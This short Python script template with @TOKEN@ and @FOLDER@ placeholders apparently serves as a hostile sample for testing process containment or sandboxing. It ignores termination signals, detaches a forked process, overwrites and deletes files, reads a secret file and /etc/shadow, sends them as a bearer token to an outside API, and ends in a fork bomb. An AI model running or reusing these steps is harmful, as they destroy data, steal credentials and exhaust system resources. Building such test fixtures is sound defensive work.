# os.environ["X_@TOKEN@"] (so that whatever this starts can be found)
import contextlib, os, shutil, signal, subprocess, time, urllib.request

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    time.sleep(60)
for path in ("@FOLDER@/made", "@FOLDER@/page.md", "/tmp/@TOKEN@"):
    with contextlib.suppress(OSError):
        open(path, "w").write("broken")
shutil.rmtree("@FOLDER@", ignore_errors=True)
secret = subprocess.run(["cat", "@FOLDER@/secret.txt", "/etc/shadow"], capture_output=True).stdout
request = urllib.request.Request("https://api.acme.dev/v1/items", headers={"Authorization": f"Bearer {secret}"})
print(urllib.request.urlopen(request).read())
with contextlib.suppress(OSError):
    while True:
        if os.fork() == 0:
            time.sleep(60)
time.sleep(60)
